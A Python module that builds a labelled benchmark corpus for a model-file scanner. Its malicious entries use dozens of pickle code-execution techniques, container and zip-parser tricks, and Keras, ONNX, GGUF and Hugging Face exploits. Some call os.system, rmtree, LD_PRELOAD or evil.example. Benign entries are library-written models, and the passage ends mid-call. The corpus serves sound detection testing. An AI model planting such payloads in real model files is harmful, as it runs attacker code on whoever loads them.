"""The labelled corpus: malicious items (one technique each, built opcode by opcode or byte by byte,
never by unpickling) and benign items written by the real libraries. `build(root)` writes them and
returns the labels; nothing here loads or runs a malicious file."""

from __future__ import annotations

import base64
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

REPO = Path(__file__).resolve().parents[2]
sys.path[:0] = [str(REPO / "tests" / "scan"), str(REPO / "tests" / "scan" / "formats")]

from pickle_asm import (  # noqa: E402  (test builders shared with tests/scan)
    APPENDS,
    BUILD,
    DUP,
    EMPTY_DICT,
    EMPTY_LIST,
    EMPTY_TUPLE,
    MARK,
    MEMOIZE,
    NEWOBJ,
    OBJ,
    POP,
    REDUCE,
    SETITEM,
    STACK_GLOBAL,
    STOP,
    TUPLE,
    TUPLE1,
    TUPLE2,
    TUPLE3,
    asm,
    binbytes,
    binget,
    binput,
    call,
    get,
    glob,
    inst,
    long_binget,
    proto,
    put,
    sbu,
    stack_global,
    string,
    unicode_nl,
)

TORCH_LEGACY_MAGIC = 0x1950A86A20F9469CFC6C


@dataclass(frozen=True)
class Item:
    """One corpus entry: a file (or a folder: SavedModel, model repository) and its label."""

    name: str
    malicious: bool
    technique: str
    source: str = ""  # advisory, paper or library that made it


class Evil:
    """Pickling it writes a call to os.system (as pickle names it); nothing here ever unpickles it."""

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, ("echo pwned",)


EVIL = call("os", "system", sbu("id"))
BENIGN = pickle.dumps({"w": [1.0, 2.0]}, protocol=2)


def _zip(members: list[tuple[str, bytes]], method: int = zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # duplicate names are the point of one entry
        with zipfile.ZipFile(buf, "w", compression=method) as z:
            for name, data in members:
                z.writestr(name, data)
    return buf.getvalue()


def _torch_zip(pkl: bytes, method: int = zipfile.ZIP_STORED) -> bytes:
    return _zip([("archive/data.pkl", pkl), ("archive/byteorder", b"little"), ("archive/version", b"3\n")], method)


# ------------------------------------------------------------------ malicious pickles: techniques

def _pickles() -> list[tuple[str, str, str, bytes]]:
    """(name, technique, source, bytes): one technique each."""
    code = compile("1 + 1", "<s>", "eval")
    inner = call("os", "system", sbu("id"))
    return [
        ("p0_os_system.pkl", "GLOBAL os.system, protocol 0 (reduce)", "Slaviero, Sour Pickles (2011)",
         asm(glob("os", "system"), MARK, string("id"), TUPLE, REDUCE, STOP)),
        ("posix_system.pkl", "posix.system as pickle writes os.system", "pickle's own output",
         pickle.dumps(Evil(), protocol=2)),
        ("exec.pkl", "builtins.exec", "classic", call("builtins", "exec", sbu("import os"))),
        ("eval_p0.pkl", "__builtin__.eval with compile + globals, protocol 0", "Sour Pickles",
         asm(glob("__builtin__", "globals"), b"(tR", put(100), POP, glob("__builtin__", "compile"), MARK,
             string("print(1)"), string(""), string("exec"), b"tR", put(101), POP, glob("__builtin__", "eval"),
             MARK, get(101), get(100), b"tR", STOP)),
        ("popen.pkl", "subprocess.Popen via NEWOBJ", "classic",
         asm(proto(2), glob("subprocess", "Popen"), sbu("id"), TUPLE1, NEWOBJ, STOP)),
        ("getoutput_memo.pkl", "subprocess.getoutput through BINPUT/LONG_BINGET/DUP", "memo tricks",
         asm(proto(4), stack_global("subprocess", "getoutput"), binput(0), POP, long_binget(0), DUP, POP,
             sbu("id"), TUPLE1, REDUCE, STOP)),
        ("import_getattr.pkl", "getattr(__import__('os'), 'system') gadget", "classic",
         asm(proto(4), stack_global("builtins", "getattr"), stack_global("builtins", "__import__"), sbu("os"),
             TUPLE1, REDUCE, sbu("system"), TUPLE2, REDUCE, sbu("id"), TUPLE1, REDUCE, STOP)),
        ("pip_main.pkl", "pip.main install", "CVE-2025-1716", call("pip", "main", b"]" + sbu("install") + b"a")),
        ("timeit.pkl", "timeit.timeit code string", "GHSA-v7x6-rv5q-mhwc",
         call("timeit", "timeit", sbu("__import__('os').system('id')"))),
        ("pkgutil_resolve.pkl", "pkgutil.resolve_name then call", "GHSA-vvpj-8cmc-gx39",
         asm(proto(4), stack_global("pkgutil", "resolve_name"), sbu("os:system"), TUPLE1, REDUCE, sbu("id"),
             TUPLE1, REDUCE, STOP)),
        ("pydoc_locate.pkl", "pydoc.locate then call", "GHSA-5hvc-6wx8-mvv4",
         asm(glob("pydoc", "locate"), string("os.system"), TUPLE1, REDUCE, put(0), POP, b"g0\n",
             string("id"), TUPLE1, REDUCE, STOP)),
        ("methodcaller.pkl", "operator.methodcaller on an imported module", "GHSA-m273-6v24-x4m4",
         asm(proto(4), stack_global("operator", "methodcaller"), sbu("system"), sbu("id"), TUPLE2, REDUCE,
             stack_global("builtins", "__import__"), sbu("os"), TUPLE1, REDUCE, TUPLE1, REDUCE, STOP)),
        ("attrgetter.pkl", "_operator.attrgetter", "GHSA-955r-x9j8-7rhh",
         asm(proto(4), stack_global("_operator", "attrgetter"), sbu("system"), TUPLE1, REDUCE,
             stack_global("builtins", "__import__"), sbu("os"), TUPLE1, REDUCE, TUPLE1, REDUCE, STOP)),
        ("cprofile_run.pkl", "cProfile.run", "GHSA-p523-jq9w-64x9", call("cProfile", "run", sbu("print(1)"), p=5)),
        ("profile_dotted.pkl", "profile.Profile.run (dotted STACK_GLOBAL)", "GHSA-x696-vm39-cp64",
         call("profile", "Profile.run", b"N", sbu("x"))),
        ("code_interp.pkl", "code.InteractiveInterpreter", "GHSA-q5qq-mvfm-j35x",
         asm(proto(5), stack_global("code", "InteractiveInterpreter"), EMPTY_TUPLE, REDUCE, STOP)),
        ("doctest.pkl", "doctest.debug_script", "GHSA-fqq6-7vqf-w3fg", call("doctest", "debug_script", sbu("x"))),
        ("uuid_cmd.pkl", "uuid._get_command_stdout", "CVE-2026-56315", call("uuid", "_get_command_stdout", sbu("id"))),
        ("imaplib.pkl", "imaplib.IMAP4_stream", "CVE-2026-56315", call("imaplib", "IMAP4_stream", sbu("id"))),
        ("marshal_func.pkl", "marshal.loads + types.FunctionType", "GHSA-565g-hwwr-4pp3",
         asm(proto(4), stack_global("marshal", "loads"), MEMOIZE, binget(0), binbytes(marshal.dumps(code)),
             TUPLE1, REDUCE, MEMOIZE, stack_global("types", "FunctionType"), MEMOIZE, binget(2), binget(1),
             EMPTY_DICT, TUPLE2, REDUCE, MEMOIZE, binget(3), EMPTY_TUPLE, REDUCE, STOP)),
        ("ctypes.pkl", "ctypes.CDLL + getattr", "GHSA-q5qq-mvfm-j35x",
         asm(proto(5), stack_global("builtins", "getattr"), stack_global("ctypes", "CDLL"), sbu("libc.so.6"),
             TUPLE1, REDUCE, sbu("system"), TUPLE2, REDUCE, binbytes(b"id"), TUPLE1, REDUCE, STOP)),
        ("asyncio_sub.pkl", "asyncio.unix_events._UnixSubprocessTransport", "CVE-2025-10157",
         call("asyncio.unix_events", "_UnixSubprocessTransport", b"N", sbu("id"))),
        ("torch_bottleneck.pkl", "torch.utils.bottleneck run_autograd_prof", "GHSA-4whj-rm5r-c2v8",
         call("torch.utils.bottleneck.__main__", "run_autograd_prof", sbu("code"), EMPTY_DICT)),
        ("runpy.pkl", "runpy.run_path", "GHSA-wfq2-52f7-7qvj", call("runpy", "run_path", sbu("/tmp/x.py"), p=5)),
        ("pty_memo.pkl", "pty.spawn with MEMOIZE between every opcode", "GHSA-r7v6-mfhq-g3m2",
         asm(proto(4), sbu("pty"), MEMOIZE, sbu("spawn"), MEMOIZE, STACK_GLOBAL, MEMOIZE, sbu("id"), MEMOIZE,
             TUPLE1, MEMOIZE, REDUCE, MEMOIZE, sbu("x"), MEMOIZE, BUILD, STOP)),
        ("nested_pickle.pkl", "_pickle.loads of an inner payload", "GHSA-84r2-jw7c-4r5q",
         asm(proto(4), stack_global("_pickle", "loads"), binbytes(inner), TUPLE1, REDUCE, STOP)),
        ("numpy_load.pkl", "numpy.load of an attacker file (nested deserialiser)", "nested deserialisation",
         call("numpy", "load", sbu("/tmp/evil.npy"), b"\x88")),
        ("torch_load.pkl", "torch.load inside a pickle", "nested deserialisation",
         call("torch", "load", sbu("/tmp/evil.pt"))),
        ("idlelib_runcode.pkl", "idlelib.pyshell.ModifiedInterpreter.runcode", "GHSA-3gf5-cxq9-w223",
         call("idlelib.pyshell", "ModifiedInterpreter.runcode", b"N", sbu("x"))),
        ("lib2to3_grammar.pkl", "lib2to3 Grammar.loads (nested pickle)", "GHSA-f54q-57x4-jg88",
         call("lib2to3.pgen2.grammar", "Grammar.loads", b"N", binbytes(b"x"))),
        ("trace_run.pkl", "trace.Trace.run", "GHSA-5qwp-399c-mjwf", call("trace", "Trace.run", b"N", sbu("x"))),
        ("pdb_run.pkl", "pdb.run", "GHSA-46h3-79wf-xr6c", call("pdb", "run", sbu("import os"))),
        ("bdb_run.pkl", "bdb.Bdb.run", "GHSA-4675-36f9-wf6r", call("bdb", "Bdb.run", b"N", sbu("x"))),
        ("venv_create.pkl", "venv.create", "GHSA-vqmv-47xg-9wpr", call("venv", "create", sbu("/tmp/x"), b"\x88")),
        ("https_conn.pkl", "http.client.HTTPSConnection (network)", "GHSA-hgrh-qx5j-jfwx",
         call("http.client", "HTTPSConnection", sbu("evil.example"))),
        ("filehandler.pkl", "logging.FileHandler (file write)", "CVE-2026-56304",
         call("logging", "FileHandler", sbu("/tmp/x"))),
        ("rmtree.pkl", "shutil.rmtree", "file system", call("shutil", "rmtree", sbu("/tmp/x"))),
        ("webbrowser.pkl", "webbrowser.open", "network", call("webbrowser", "open", sbu("http://evil.example"))),
        ("spawnv.pkl", "multiprocessing.util.spawnv_passfds", "GHSA-q5qq-mvfm-j35x",
         asm(proto(5), stack_global("multiprocessing.util", "spawnv_passfds"), binbytes(b"/bin/sh"), EMPTY_LIST,
             MARK, binbytes(b"-c"), binbytes(b"id"), APPENDS, EMPTY_TUPLE, TUPLE3, REDUCE, STOP)),
        ("ensurepip.pkl", "ensurepip._run_pip", "GHSA-xp4f-hrf8-rxw7", call("ensurepip", "_run_pip", b"]")),
        ("dotted_torch_os.pkl", "dotted name torch + os.system", "dotted-name traversal",
         call("torch", "os.system", sbu("id"))),
        ("dotted_globals.pkl", "collections.OrderedDict.__init__.__globals__", "dotted-name traversal",
         call("collections", "OrderedDict.__init__.__globals__", sbu("id"))),
        ("memo_desync.pkl", "module/name fetched through the memo under other keys", "picklescan issue 22",
         asm(unicode_nl("os"), put(2), POP, unicode_nl("system"), put(3), POP, unicode_nl("torch"), put(0), POP,
             unicode_nl("LongStorage"), put(1), POP, get(2), get(3), STACK_GLOBAL, MARK, unicode_nl("id"), TUPLE,
             REDUCE, STOP)),
        ("inst.pkl", "INST opcode (protocol 0)", "Sour Pickles", asm(MARK, string("id"), inst("os", "system"), STOP)),
        ("obj.pkl", "OBJ opcode", "Sour Pickles", asm(MARK, glob("posix", "popen"), string("id"), OBJ, STOP)),
        ("invalid_opcode.pkl", "payload before an invalid opcode (no STOP)", "fickling/picklescan bypasses",
         EVIL[:-1] + b"\xff garbage"),
        ("pop_hidden.pkl", "call result discarded with POP", "POP-hidden call",
         asm(proto(4), stack_global("os", "system"), sbu("id"), TUPLE1, REDUCE, POP, b"N", STOP)),
        ("second_pickle.pkl", "benign pickle followed by a malicious one", "multiple pickles in one stream",
         pickle.dumps([1, 2]) + EVIL),
        ("env_setitem.pkl", "os.environ mutated with SETITEM (LD_PRELOAD)", "global mutation",
         asm(proto(4), stack_global("os", "environ"), sbu("LD_PRELOAD"), sbu("/tmp/x.so"), SETITEM, STOP)),
    ]


# ------------------------------------------------------------------ malicious containers and formats

def _containers() -> list[tuple[str, str, str, bytes]]:
    crc = struct.pack("<I", zlib.crc32(EVIL))
    bad_crc = _torch_zip(EVIL).replace(crc, b"\xde\xad\xbe\xef")
    flagged = bytearray(_torch_zip(EVIL))
    for sig, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        pos = flagged.find(sig)
        while pos >= 0:
            flagged[pos + at] |= 0x1
            pos = flagged.find(sig, pos + 4)
    renamed = bytearray(_torch_zip(EVIL))
    at = renamed.find(b"PK\x03\x04") + 30
    renamed[at:at + 16] = b"archive/data.pkx"
    legacy = (pickle.dumps(TORCH_LEGACY_MAGIC, protocol=2) + pickle.dumps(1001, protocol=2)
              + pickle.dumps({"protocol_version": 1001}, protocol=2) + EVIL + pickle.dumps([], protocol=2)
              + b"\x00" * 64)
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tar:
        for name, data in (("sys_info", BENIGN), ("pickle", EVIL), ("storages", pickle.dumps(0)),
                           ("tensors", pickle.dumps(0))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return [
        ("torch_zip.pt", "PyTorch zip, payload in data.pkl (stored)", "torch.load", _torch_zip(EVIL)),
        ("torch_zip_deflated.pt", "PyTorch zip, deflated member", "torch.load",
         _torch_zip(EVIL, zipfile.ZIP_DEFLATED)),
        ("torch_zip_badcrc.pt", "zip member with a wrong CRC (zipfile refuses, torch reads)", "CVE-2025-10156",
         bad_crc),
        ("torch_zip_flagbit.pt", "zip 'encrypted' flag bit set (zipfile refuses, torch reads)", "CVE-2025-1945",
         bytes(flagged)),
        ("torch_zip_namemismatch.pt", "local and central directory names differ", "CVE-2025-1944", bytes(renamed)),
        ("torch_zip_duplicate.pt", "duplicate member names, payload in the second", "zip parser differential",
         _zip([("archive/data.pkl", BENIGN), ("archive/data.pkl", EVIL), ("archive/version", b"3")])),
        ("torch_zip_prepended.pt", "data prepended to a PyTorch zip", "zip parser differential",
         b"JUNK" * 100 + _torch_zip(EVIL)),
        ("torch_legacy.pt", "legacy PyTorch (magic-number pickle sequence)", "torch.load legacy", legacy),
        ("torch_legacy.tar", "legacy PyTorch tar, payload in 'pickle'", "torch.load legacy tar", tar_buf.getvalue()),
        ("joblib_zlib.joblib", "joblib zlib-compressed payload", "joblib.load", zlib.compress(EVIL)),
        ("joblib_gzip.joblib", "joblib gzip-compressed payload", "joblib.load", gzip.compress(EVIL)),
        ("joblib_bz2.joblib", "joblib bz2-compressed payload", "joblib.load", bz2.compress(EVIL)),
        ("joblib_lzma.joblib", "joblib lzma-compressed payload", "joblib.load",
         lzma.compress(EVIL, format=lzma.FORMAT_ALONE)),
        ("joblib_xz.joblib", "joblib xz-compressed payload", "joblib.load", lzma.compress(EVIL, format=lzma.FORMAT_XZ)),
        ("polyglot_pickle_first.pt", "pickle+zip polyglot: payload in the pickle view", "polyglot",
         EVIL + _torch_zip(BENIGN)),
        ("polyglot_zip_payload.pt", "pickle+zip polyglot: payload in the zip view", "polyglot",
         BENIGN + _torch_zip(EVIL)),
        ("payload.safetensors", "pickle payload named .safetensors", "CVE-2025-1889 (extension trust)", EVIL),
        ("payload.txt", "pickle payload named .txt", "CVE-2025-10155 (extension trust)", EVIL),
    ]


def _library_containers(root: Path) -> list[Item]:
    """Payloads placed by the libraries' own writers (joblib, numpy, torch)."""
    import joblib
    import numpy as np

    arr = np.empty(2, dtype=object)
    arr[0], arr[1] = Evil(), 1
    joblib.dump({"w": np.ones((4, 3)), "objects": arr}, root / "joblib_objarray.joblib")
    joblib.dump({"w": np.ones((4, 3)), "objects": arr}, root / "joblib_objarray_z3.joblib", compress=3)
    np.save(root / "objarray.npy", arr, allow_pickle=True)
    np.savez(root / "objarray.npz", ok=np.arange(3), bad=arr)
    items = [
        Item("joblib_objarray.joblib", True, "object array in joblib (numpy_pickle)", "joblib.dump"),
        Item("joblib_objarray_z3.joblib", True, "object array in compressed joblib", "joblib.dump compress=3"),
        Item("objarray.npy", True, ".npy object array pickle", "numpy.save allow_pickle"),
        Item("objarray.npz", True, ".npz with an object-array member", "numpy.savez"),
    ]
    try:
        import torch
    except ImportError:
        return items
    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(torch.nn.Linear(3, 2)), buf)
    src = zipfile.ZipFile(io.BytesIO(buf.getvalue()))
    members = [(n, EVIL if n.endswith("constants.pkl") else src.read(n)) for n in src.namelist()]
    (root / "torchscript_constants.pt").write_bytes(_zip(members))
    torch.save({"state": torch.ones(2), "hook": Evil()}, root / "torch_save_reduce.pt")
    items += [
        Item("torchscript_constants.pt", True, "TorchScript archive with a payload in constants.pkl", "torch.jit"),
        Item("torch_save_reduce.pt", True, "object with __reduce__ saved by torch.save", "torch.save"),
    ]
    return items


def _formats(root: Path) -> list[Item]:
    """Non-pickle formats: Keras, HDF5, SavedModel, ONNX, GGUF, and a Hugging Face repository."""
    from scanfmt_pbwriter import node, saved_model
    from test_format_gguf import CVE_2024_34359, write_gguf
    from test_format_keras import CVE_2025_1550, LAMBDA3, keras2_lambda, keras2_model, sequential, write_h5, write_keras

    write_keras(root / "keras_lambda.keras", sequential(LAMBDA3))
    write_keras(root / "keras_cve_2025_1550.keras", sequential(CVE_2025_1550))
    write_h5(root / "h5_lambda.h5", keras2_model(keras2_lambda([base64.b64encode(b"\xe3" + b"\0" * 40).decode(),
                                                                None, None], "lambda")))
    for name, op in (("savedmodel_readfile", "ReadFile"), ("savedmodel_pyfunc", "PyFunc")):
        (root / name).mkdir()
        (root / name / "saved_model.pb").write_bytes(saved_model([node("x", "Placeholder"), node("r", op)]))
    import numpy as np
    import onnx
    from onnx import TensorProto, helper

    x = helper.make_tensor_value_info("x", TensorProto.FLOAT, [2])
    y = helper.make_tensor_value_info("y", TensorProto.FLOAT, [2])
    w = TensorProto(name="w", data_type=TensorProto.FLOAT, dims=[2], data_location=TensorProto.EXTERNAL)
    for key, value in (("location", "../../../../etc/passwd"), ("offset", "0"), ("length", "8")):
        w.external_data.add(key=key, value=value)
    graph = helper.make_graph([helper.make_node("Add", ["x", "w"], ["y"])], "g", [x], [y], [w])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), root / "onnx_traversal.onnx")
    write_gguf(root / "gguf_template.gguf", CVE_2024_34359)
    repo = root / "hf_remote_code"
    repo.mkdir()
    (repo / "config.json").write_text(json.dumps({"model_type": "x", "auto_map": {"AutoModel": "modeling_x.XModel"}}))
    (repo / "modeling_x.py").write_text("import os\n\nclass XModel:\n    pass\n\nos.system('id')\n")
    from safetensors.numpy import save_file

    save_file({"w": np.zeros(4, dtype=np.float32)}, str(repo / "model.safetensors"))
    return [
        Item("keras_lambda.keras", True, "Keras v3 Lambda layer with bytecode", "Keras safe_mode bypasses"),
        Item("keras_cve_2025_1550.keras", True, "Keras config resolving os.system", "CVE-2025-1550"),
        Item("h5_lambda.h5", True, "Keras HDF5 Lambda with marshalled bytecode", "Keras HDF5 Lambda"),
        Item("savedmodel_readfile", True, "SavedModel ReadFile op", "TF file-system ops"),
        Item("savedmodel_pyfunc", True, "SavedModel PyFunc op", "TF PyFunc"),
        Item("onnx_traversal.onnx", True, "ONNX external data escaping the model folder", "CVE-2024-27318"),
        Item("gguf_template.gguf", True, "GGUF chat template Jinja sandbox escape", "CVE-2024-34359"),
        Item("hf_remote_code", True, "Hugging Face repo: auto_map runs modeling_x.py", "trust_remote_code"),
    ]


# ------------------------------------------------------------------ round 2: ways the first scanner failed open

def _round2(root: Path) -> list[Item]:
    """Padding and floods, members judged by name, limits hiding payloads, unknown callables that reach
    process execution or code evaluation, TensorFlow graphs under other names (bench of issue 10)."""
    from scanfmt_pbwriter import field, node, saved_model

    p0 = asm(glob("os", "system"), MARK, string("id"), TUPLE, REDUCE, STOP)
    tar_buf = io.BytesIO()
    with tarfile.open(fileobj=tar_buf, mode="w") as tar:
        for name, data in (("weights/model.bin", p0), ("README", b"weights\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    entries = [
        ("pad_globals.pkl", "100,001 harmless globals before os.system", "issue 10 (silent cap)",
         proto(2) + (glob("collections", "OrderedDict") + POP) * 100_001 + EVIL[2:]),
        ("payload_then_marks.pkl", "os.system, then MARKs past the stack limit", "issue 10 (limit keeps findings)",
         EVIL[:-1] + POP + MARK * 100_500 + b"N" + STOP),
        ("marks_then_payload.pkl", "MARKs past the stack limit hide a later os.system", "issue 10 (not verified)",
         MARK * 100_500 + EVIL),
        ("zip_p0_member.zip", "generic zip: protocol-0 pickle named weights/model.bin", "issue 10 (members by name)",
         _zip([("weights/model.bin", p0), ("README", b"weights\n")])),
        ("zip_joblib_member.zip", "generic zip: zlib joblib member", "issue 10 (members by name)",
         _zip([("state/opt.joblib", zlib.compress(EVIL))])),
        ("zip_nested_pt.zip", "generic zip: nested PyTorch zip", "issue 10 (members by name)",
         _zip([("nested/inner.pt", _torch_zip(EVIL))])),
        ("zip_lzma_member.zip", "zip member compressed with LZMA", "issue 10 (compression methods)",
         _zip([("w/model.pkl", EVIL)], zipfile.ZIP_LZMA)),
        ("tar_p0_member.tar", "tar: protocol-0 pickle named weights/model.bin", "issue 10 (members by name)",
         tar_buf.getvalue()),
        ("platform_architecture.pkl", "platform.architecture (reaches subprocess)", "issue 10 (reachability)",
         call("platform", "architecture", sbu("/bin/sh"))),
        ("dataclasses_create_fn.pkl", "dataclasses._create_fn (runs exec on a string)", "issue 10 (reachability)",
         call("dataclasses", "_create_fn", sbu("f"), EMPTY_TUPLE, b"]" + sbu("import os"))),
        ("sqlite_connect.pkl", "_sqlite3.connect, a C builtin called with a path", "issue 10 (compiled callables)",
         call("_sqlite3", "connect", sbu("/tmp/x.db"))),
        ("collect_env_run.pkl", "torch.utils.collect_env.run (subprocess with shell=True)", "issue 10 (reachability)",
         call("torch.utils.collect_env", "run", sbu("id"))),
        ("graph_named_model.bin", "SavedModel with ReadFile named model.bin", "issue 10 (graphs by structure)",
         saved_model([node("x", "Placeholder"), node("r", "ReadFile")])),
        ("frozen_graph.pb", "frozen GraphDef with PyFunc", "issue 10 (graphs by structure)",
         field(1, node("p", "PyFunc")) + field(4, field(1, 1))),
    ]
    for name, _, _, data in entries:
        (root / name).write_bytes(data)
    return [Item(name, True, technique, source) for name, technique, source, _ in entries]


def _benign_round2(root: Path) -> list[Item]:
    """XGBoost, LightGBM, a full torch transformer, and a ColumnTransformer pipeline with the user's own
    classes (from a module the scanner cannot import: a project's code is not installed where CI scans)."""
    import joblib
    import numpy as np
    from benign_classes import ClippedScaler, Vocabulary, log1p_clip
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_iris
    from sklearn.linear_model import LogisticRegression
    from sklearn.pipeline import Pipeline
    from sklearn.preprocessing import FunctionTransformer, OneHotEncoder

    items: list[Item] = []
    X, y = load_iris(return_X_y=True)

    def add(name: str, what: str, write: Callable[[Path], object]) -> None:
        write(root / name)
        items.append(Item(name, False, what, "library writer"))

    try:
        import lightgbm
        import xgboost

        xgb = xgboost.XGBClassifier(n_estimators=5, max_depth=2).fit(X, y)
        lgb = lightgbm.LGBMClassifier(n_estimators=5, verbose=-1).fit(X, y)
        add("xgb.joblib", "XGBoost classifier (joblib)", lambda p: joblib.dump(xgb, p))
        add("xgb.pkl", "XGBoost classifier (pickle 5)", lambda p: p.write_bytes(pickle.dumps(xgb, protocol=5)))
        add("xgb.ubj", "XGBoost native UBJSON", lambda p: xgb.save_model(p))
        add("lgb.joblib", "LightGBM classifier (joblib)", lambda p: joblib.dump(lgb, p))
        add("lgb.pkl", "LightGBM classifier (pickle 5)", lambda p: p.write_bytes(pickle.dumps(lgb, protocol=5)))
        add("lgb.txt", "LightGBM native text model", lambda p: lgb.booster_.save_model(str(p)))
    except ImportError:
        pass
    import pandas as pd

    rng = np.random.default_rng(0)
    frame = pd.DataFrame({"age": rng.integers(18, 80, 60), "income": rng.lognormal(10, 1, 60),
                          "city": rng.choice(["a", "b", "c"], 60)})
    columns = ColumnTransformer([
        ("num", Pipeline([("log", FunctionTransformer(log1p_clip)), ("clip", ClippedScaler())]), ["age", "income"]),
        ("ufunc", FunctionTransformer(np.log1p), ["income"]),
        ("cat", OneHotEncoder(handle_unknown="ignore"), ["city"])])
    custom = Pipeline([("columns", columns), ("clf", LogisticRegression(max_iter=500))]).fit(frame, frame["age"] > 40)
    custom.vocabulary_ = Vocabulary(["a", "b", "c"])
    add("sk_custom_classes.joblib", "ColumnTransformer pipeline with the user's own classes (joblib)",
        lambda p: joblib.dump(custom, p))
    add("sk_custom_classes_p2.pkl", "the same pipeline, pickle protocol 2 (copyreg._reconstructor)",
        lambda p: p.write_bytes(pickle.dumps(custom, protocol=2)))
    try:
        import torch
    except ImportError:
        return items
    net = torch.nn.Sequential(torch.nn.TransformerEncoder(torch.nn.TransformerEncoderLayer(16, 2, 32), 2),
                              torch.nn.GELU(), torch.nn.Linear(16, 4))
    add("torch_transformer_full.pt", "torch.save of a full small transformer", lambda p: torch.save(net, p))
    return items


_KERAS_SCRIPT = """
import sys, numpy as np, keras
root = sys.argv[1]
rng = np.random.default_rng(0)
seq = keras.Sequential([keras.Input((4,)), keras.layers.Dense(8, activation="relu"), keras.layers.Dropout(0.1),
                        keras.layers.Dense(2, activation="softmax")])
seq.compile(optimizer="adam", loss="sparse_categorical_crossentropy")
seq.fit(rng.random((16, 4)), rng.integers(0, 2, 16), epochs=1, verbose=0)
seq.save(f"{root}/keras3_sequential.keras")
seq.save(f"{root}/keras_sequential_legacy.h5")
inp = keras.Input((8,))
x = keras.layers.BatchNormalization()(keras.layers.Dense(4)(inp))
keras.Model(inp, keras.layers.Dense(1)(x)).save(f"{root}/keras3_functional.keras")
lam = keras.Sequential([keras.Input((4,)), keras.layers.Lambda(lambda t: t * 2), keras.layers.Dense(1)])
lam.save(f"{root}/keras3_real_lambda.keras")
lam.save(f"{root}/keras_real_lambda_legacy.h5")
"""


def _keras(root: Path) -> list[Item]:
    """Keras 3 files written by Keras itself (jax backend) with the anchors' virtualenv, when it has Keras:
    benign models, and models whose Lambda layer keeps Python bytecode."""
    python = REPO / "bench" / ".venv-scan" / "bin" / "python"
    if not python.exists():
        return []
    import subprocess

    env = {**os.environ, "KERAS_BACKEND": "jax", "TF_CPP_MIN_LOG_LEVEL": "3"}
    done = subprocess.run([str(python), "-c", _KERAS_SCRIPT, str(root)], env=env, capture_output=True, check=False)
    if done.returncode != 0:
        return []
    return [
        Item("keras3_sequential.keras", False, "Keras 3 Sequential (.keras)", "keras.Model.save"),
        Item("keras3_functional.keras", False, "Keras 3 functional model (.keras)", "keras.Model.save"),
        Item("keras_sequential_legacy.h5", False, "Keras 3 Sequential saved as legacy HDF5", "keras.Model.save"),
        Item("keras3_real_lambda.keras", True, "Keras 3 Lambda layer with bytecode, written by Keras",
             "Keras safe_mode bypasses"),
        Item("keras_real_lambda_legacy.h5", True, "Keras Lambda layer in legacy HDF5, written by Keras",
             "Keras HDF5 Lambda"),
    ]


# ------------------------------------------------------------------ benign, written by the libraries

def _benign(root: Path) -> list[Item]:
    import joblib
    import numpy as np
    from sklearn.cluster import KMeans
    from sklearn.compose import ColumnTransformer
    from sklearn.datasets import load_breast_cancer, load_iris
    from sklearn.decomposition import PCA
    from sklearn.ensemble import (
        GradientBoostingClassifier,
        HistGradientBoostingClassifier,
        IsolationForest,
        RandomForestClassifier,
    )
    from sklearn.feature_extraction.text import TfidfVectorizer
    from sklearn.linear_model import LogisticRegression
    from sklearn.neighbors import KNeighborsClassifier
    from sklearn.neural_network import MLPClassifier
    from sklearn.pipeline import make_pipeline
    from sklearn.preprocessing import OneHotEncoder, StandardScaler
    from sklearn.svm import SVC
    from sklearn.tree import DecisionTreeClassifier

    items: list[Item] = []

    def add(name: str, what: str, writer: Callable[[Path], object]) -> None:
        writer(root / name)
        items.append(Item(name, False, what, "library writer"))

    X, y = load_breast_cancer(return_X_y=True)
    Xi, yi = load_iris(return_X_y=True)
    models = {
        "logreg": LogisticRegression(max_iter=2000).fit(X, y),
        "pipeline": make_pipeline(StandardScaler(), LogisticRegression(max_iter=500)).fit(X, y),
        "gb": GradientBoostingClassifier(n_estimators=10, random_state=0).fit(X, y),
        "histgb": HistGradientBoostingClassifier(max_iter=10, random_state=0).fit(X, y),
        "rf": RandomForestClassifier(n_estimators=10, random_state=0).fit(X, y),
        "svc": SVC(probability=True, random_state=0).fit(Xi, yi),
        "tree": DecisionTreeClassifier(random_state=0).fit(Xi, yi),
        "knn": KNeighborsClassifier().fit(Xi, yi),
        "mlp": MLPClassifier(max_iter=50, random_state=0).fit(Xi, yi),
        "kmeans": KMeans(n_clusters=3, n_init=2, random_state=0).fit(Xi),
        "iforest": IsolationForest(n_estimators=10, random_state=0).fit(Xi),
        "pca_pipeline": make_pipeline(PCA(2), LogisticRegression()).fit(Xi, yi),
    }
    texts = ["good model", "bad file", "safe weights", "evil pickle"] * 5
    models["tfidf"] = make_pipeline(TfidfVectorizer(), LogisticRegression()).fit(texts, [0, 1, 0, 1] * 5)
    try:
        import pandas as pd

        frame = pd.DataFrame({"a": Xi[:, 0], "c": np.array(["x", "y", "z"])[yi]})
        models["columns"] = make_pipeline(
            ColumnTransformer([("num", StandardScaler(), ["a"]), ("cat", OneHotEncoder(), ["c"])]),
            LogisticRegression()).fit(frame, yi)
        add("dataframe.pkl", "pandas DataFrame pickle", lambda p: frame.to_pickle(p))
    except ImportError:
        pass
    for key, model in models.items():
        add(f"sk_{key}.joblib", f"scikit-learn {key} (joblib)", lambda p, m=model: joblib.dump(m, p))
    for key in ("logreg", "gb", "rf", "histgb", "pipeline"):
        add(f"sk_{key}.pkl", f"scikit-learn {key} (pickle protocol 5)",
            lambda p, m=models[key]: p.write_bytes(pickle.dumps(m, protocol=5)))
    for codec in ("zlib", "gzip", "bz2", "lzma", "xz"):
        add(f"sk_rf_{codec}.joblib", f"RandomForest joblib compress={codec}",
            lambda p, c=codec: joblib.dump(models["rf"], p, compress=(c, 3)))
    add("sk_logreg_p2.pkl", "LogisticRegression pickle protocol 2",
